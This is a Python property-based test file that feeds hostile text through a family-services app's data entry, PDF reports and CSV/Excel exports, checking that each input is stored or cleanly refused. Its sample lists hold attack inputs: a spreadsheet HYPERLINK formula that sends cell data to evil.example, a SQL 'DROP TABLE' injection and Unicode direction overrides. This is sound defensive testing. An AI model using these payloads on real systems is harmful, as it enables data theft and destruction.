"""Hostile text through every service that takes text, then through the PDFs and exports.

Control characters, NUL, right-to-left overrides, markup (``<b>&amp;``),
formula prefixes, lone surrogates and a 1 MB string go into each text field.
Each call either stores the text literally (as ``domain.text.normalise``
gives it: line endings as ``\\n``, no whitespace at the ends) or refuses it
with a DomainError; never another exception, on SQLite as on PostgreSQL.
What was stored then goes through the progress report, the handout, the
caseload report and the CSV and Excel exports, which must not fail.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from imh_desktop.domain.enums import (
    ClosureReason,
    FollowUpKind,
    GoalDomain,
    Instrument,
    ReferralSource,
    Role,
)
from imh_desktop.domain.errors import DomainError
from imh_desktop.domain.inputs import CaregiverInput, ChildInput, FamilyInput, GoalInput, VisitInput
from imh_desktop.domain.text import normalise
from imh_desktop.services.admin import agency
from imh_desktop.services.admin import staff as staff_service
from imh_desktop.services.common import export
from imh_desktop.services.common.context import ServiceContext
from imh_desktop.services.family import families, goal_revisions, goals
from imh_desktop.services.screenings import results
from imh_desktop.services.team import dashboard as team
from imh_desktop.services.visits import drafts, notes
from imh_desktop.services.visits.records import GoalRating, NoteInput

TODAY = dt.date(2026, 11, 25)
MEGABYTE = "x" * 1_000_000
SAMPLES = (
    "\x00", "\x07bell", "\x1b[31mred", "\u202eevil\u202c", "\u200f\u200b", "<b>&amp;</b>",
    "<para>x</para>", "]]>", "=1+1", '=HYPERLINK("http://evil.example/?x="&D2,"Open")', "+SUM(A1)",
    "-2", "@cmd", "\tx", "\rx", "a\r\nb", "Zoë Núñez-O'Brien", "Nguyễn Thị Ánh", "😀👶",
    "'; DROP TABLE families; --", "%PDF-1.4", "\ud800", "a\udfffb", "\x85", "\ufffe", " padded ",
)  # fmt: skip
hostile = st.one_of(
    st.text(max_size=40),  # any code point but surrogates, control characters included
    st.sampled_from(SAMPLES),
    st.builds(
        lambda a, b, c: a + b + c,
        st.sampled_from(SAMPLES),
        st.text(max_size=12),
        st.sampled_from(SAMPLES),
    ),
    st.just(MEGABYTE),
    st.integers(1, 25_000).map(lambda n: "note " * (n // 5)),  # around the note limit
)
STORABLE = (
    "\u202eevil\u202c", "<b>&amp;</b>", "]]>", "=1+1", '=HYPERLINK("http://evil.example/","x")',
    "+SUM(A1)", "-2", "@cmd", "Zoë Núñez-O'Brien", "Nguyễn Thị Ánh", "😀👶", "%PDF-1.4",
    "'; DROP TABLE families; --",
)  # fmt: skip
storable = st.one_of(
    st.sampled_from(STORABLE),
    st.text(
        st.characters(exclude_categories=("Cc", "Cs", "Cn", "Zs", "Zl", "Zp")),
        min_size=1,
        max_size=30,
    ),
)


def one_hostile(count: int) -> st.SearchStrategy[list[str]]:
    """``count`` values that can be stored, one of which (any) is replaced by hostile text."""
    return st.tuples(
        st.lists(storable, min_size=count, max_size=count), hostile, st.integers(0, count - 1)
    ).map(lambda t: [*t[0][: t[2]], t[1], *t[0][t[2] + 1 :]])


FAST = settings(
    max_examples=30, deadline=None, derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                           HealthCheck.data_too_large],
)  # fmt: skip


def stored_or_refused(call: Callable[[], object]) -> object | None:
    """The call's result, or None when it refused the input with a DomainError."""
    try:
        result = call()
    except DomainError as exc:
        assert exc.message and "Traceback" not in exc.message
        event(f"refused: {exc.field}")
        return None
    event("stored")
    return result


def family_input(specialist_id: int, name: str = "Rivera family", **changes: object) -> FamilyInput:
    values: dict[str, object] = {
        "display_name": name, "specialist_id": specialist_id,
        "referral_source": ReferralSource.HOSPITAL, "referral_date": dt.date(2026, 1, 5),
        "enrolled_on": dt.date(2026, 1, 12),
    }  # fmt: skip
    values.update(changes)
    return FamilyInput(**values)  # type: ignore[arg-type]


@pytest.fixture
def sup(as_user, staff) -> ServiceContext:
    return as_user(staff["ssupervisor"])


@pytest.fixture
def ana(as_user, staff) -> ServiceContext:
    return as_user(staff["aspecialist"])


@pytest.fixture
def base_family(sup, staff):
    data = family_input(staff["aspecialist"], caregivers=(CaregiverInput("Ana Rivera"),),
                        children=(ChildInput("Leo Rivera", dt.date(2026, 2, 1)),))  # fmt: skip
    return families.create_family(sup, data)


def check_reports_and_exports(
    ctx: ServiceContext, family_id: int, visit_id: int, out: Path
) -> None:
    """What was stored goes through every PDF and export without an error."""
    from imh_desktop.reports.caseload import render_caseload_report
    from imh_desktop.reports.handout import render_handout
    from imh_desktop.reports.labels import label
    from imh_desktop.reports.progress import render_progress_report
    from imh_desktop.services.reports import (
        CaseloadFilters,
        caseload_report_data,
        handout_data,
        progress_report_data,
    )

    data = progress_report_data(ctx, family_id, dt.date(2026, 1, 12), TODAY)
    assert render_progress_report(data).startswith(b"%PDF")
    assert render_handout(handout_data(ctx, visit_id, "en")).startswith(b"%PDF")
    from imh_desktop.services.admin.staff import get_staff
    from imh_desktop.services.caseload.table import SCOPE_OF_ROLE

    scope = SCOPE_OF_ROLE[get_staff(ctx, ctx.user_id).role]  # the caseload this user opens
    caseload = caseload_report_data(ctx, scope, CaseloadFilters())
    assert render_caseload_report(caseload).startswith(b"%PDF")
    frame = team.caseload_frame(ctx)
    for fmt in ("csv", "xlsx"):
        export.write_table(frame, team.CASELOAD_COLUMNS, out / f"caseload.{fmt}", fmt, label=label)


@FAST
@given(values=one_hostile(7))
def test_create_family(sup, staff, values):
    name, address, phone, language, carer, relationship, child = values
    data = family_input(
        staff["aspecialist"], name, address=address, phone=phone, language=language,
        caregivers=(CaregiverInput(carer, relationship, phone=phone, language=language),),
        children=(ChildInput(child, dt.date(2026, 2, 1)),),
    )  # fmt: skip
    made = stored_or_refused(lambda: families.create_family(sup, data))
    if made is not None:
        got = families.get_family(sup, made.id)
        assert (got.display_name, got.address, got.phone, got.language) == tuple(
            map(normalise, (name, address, phone, language)))  # fmt: skip
        assert (got.caregivers[0].full_name, got.caregivers[0].relationship) == (
            normalise(carer), normalise(relationship))  # fmt: skip
        assert got.children[0].full_name == normalise(child)


@FAST
@given(values=one_hostile(3))
def test_update_family_caregiver_and_child(sup, staff, base_family, values):
    name, address, phone = values
    fam = families.get_family(sup, base_family.id)
    data = family_input(staff["aspecialist"], name, address=address, phone=phone)
    if stored_or_refused(lambda: families.update_family(sup, fam.id, data, fam.version)):
        got = families.get_family(sup, fam.id)
        assert (got.display_name, got.address, got.phone) == tuple(
            map(normalise, (name, address, phone)))  # fmt: skip
    carer = fam.caregivers[0]
    saved = stored_or_refused(lambda: families.save_caregiver(
        sup, fam.id, CaregiverInput(name, phone=phone), carer.id, carer.version))  # fmt: skip
    if saved is not None:
        assert (saved.full_name, saved.phone) == (normalise(name), normalise(phone))
    kid = stored_or_refused(
        lambda: families.add_child(sup, fam.id, ChildInput(name, dt.date(2026, 2, 1)))
    )
    if kid is not None:
        assert kid.full_name == normalise(name)


@FAST
@given(values=one_hostile(3))
def test_goals(ana, base_family, values):
    statement, baseline, strategies = values
    data = GoalInput(GoalDomain.ATTACHMENT, statement, dt.date(2026, 2, 1), baseline=baseline,
                     strategies=strategies)  # fmt: skip
    goal = stored_or_refused(lambda: goals.create_goal(ana, base_family.id, data))
    if goal is None:
        return
    assert (goal.statement, goal.baseline, goal.strategies) == tuple(
        map(normalise, (statement, baseline, strategies)))  # fmt: skip
    again = dataclasses.replace(data, statement=normalise(statement) + " (again)")
    updated = stored_or_refused(lambda: goals.update_goal(ana, goal.id, again, goal.version))
    if updated is not None:
        revised = stored_or_refused(
            lambda: goal_revisions.revise_goal(
                ana, goal.id, dataclasses.replace(again, statement=strategies), updated.version
            )
        )
        if revised is not None:
            assert revised[1].statement == normalise(strategies)


@settings(FAST, max_examples=25)  # each example renders three PDFs and two exports
@given(values=one_hostile(5))
def test_notes_amendments_drafts_then_reports_and_exports(ana, staff, tmp_path_factory, values):
    section, other, rating_note, reason, amendment = values
    # A family of its own each time, so each report holds this one note.
    family = families.create_family(ana, family_input(staff["aspecialist"]))
    goal = goals.create_goal(ana, family.id, GoalInput(GoalDomain.ATTACHMENT, "Play",
                                                       dt.date(2026, 2, 1)))  # fmt: skip
    visit = VisitInput(
        visit_date=TODAY, observation=section, caregiver_response=section,
        child_presentation=section, plan=section, reflection=section, cancel_reason=section,
        services=("emotional_support",),
    )  # fmt: skip
    note = NoteInput(visit, {"caregivers": [], "children": [], "others": [other]},
                     (GoalRating(goal.id, 3, rating_note),))  # fmt: skip
    stored_or_refused(lambda: drafts.save_draft(ana, family.id, None, {"plan": section}, None))
    saved = stored_or_refused(lambda: notes.save_note(ana, family.id, note))
    if saved is None:
        return
    got = notes.get_note(ana, saved.visit.id)
    assert got.visit.observation == got.visit.plan == got.visit.reflection == normalise(section)
    assert got.ratings[0].note == normalise(rating_note)
    assert got.visit.participants["others"] == [normalise(other)]
    if got.visit.observation:
        notes.sign_visit(ana, saved.visit.id, got.visit.version)
        added = stored_or_refused(lambda: notes.amend_visit(ana, saved.visit.id, "plan", reason,
                                                            amendment))  # fmt: skip
        if added is not None:
            assert (added.reason, added.text) == (normalise(reason), normalise(amendment))
    check_reports_and_exports(ana, family.id, saved.visit.id, tmp_path_factory.mktemp("out"))


@FAST
@given(note=hostile)
def test_screening_follow_up_and_closure_notes(sup, ana, staff, base_family, note):
    carer = base_family.caregivers[0]
    screening = results.ScreeningInput(Instrument.EPDS, TODAY, caregiver_id=carer.id,
                                       answers=(3, 3, 0, 3, 0, 0, 0, 0, 0, 0))  # fmt: skip
    results.record_screening(ana, base_family.id, screening)
    alert = results.list_alerts(ana, base_family.id, open_only=True)[0]
    resolved = stored_or_refused(
        lambda: results.resolve_alert(ana, alert.id, FollowUpKind.NO_REFERRAL, note)
    )
    if resolved is not None:
        assert resolved.follow_up_note == normalise(note)
    other = families.create_family(sup, family_input(staff["aspecialist"]))
    closed = stored_or_refused(
        lambda: families.close_family(
            sup, other.id, TODAY, ClosureReason.OTHER, note, other.version
        )
    )
    if closed is not None:
        assert closed.closure_note == normalise(note)


@FAST
@given(values=one_hostile(3))
def test_staff_and_agency_settings(sup, values):
    username, full_name, agency_text = values
    made = stored_or_refused(
        lambda: staff_service.create_staff(sup, username, full_name, Role.SPECIALIST)
    )
    if made is not None:
        assert (made.username, made.full_name) == (
            normalise(username).lower(),
            normalise(full_name),
        )
    current = agency.get_settings(sup)
    wanted = dataclasses.replace(current, agency_name=agency_text, agency_address=agency_text,
                                 agency_phone=agency_text)  # fmt: skip
    saved = stored_or_refused(lambda: agency.save_settings(sup, wanted))
    if saved is not None:
        assert saved.agency_name == saved.agency_address == normalise(agency_text)
    # A lookup by any text is a plain "not found", never a database error.
    with pytest.raises(DomainError):
        staff_service.find_staff(sup.db, username + "\x00")
    with pytest.raises(DomainError):
        families.find_family(sup, full_name + "\x00")
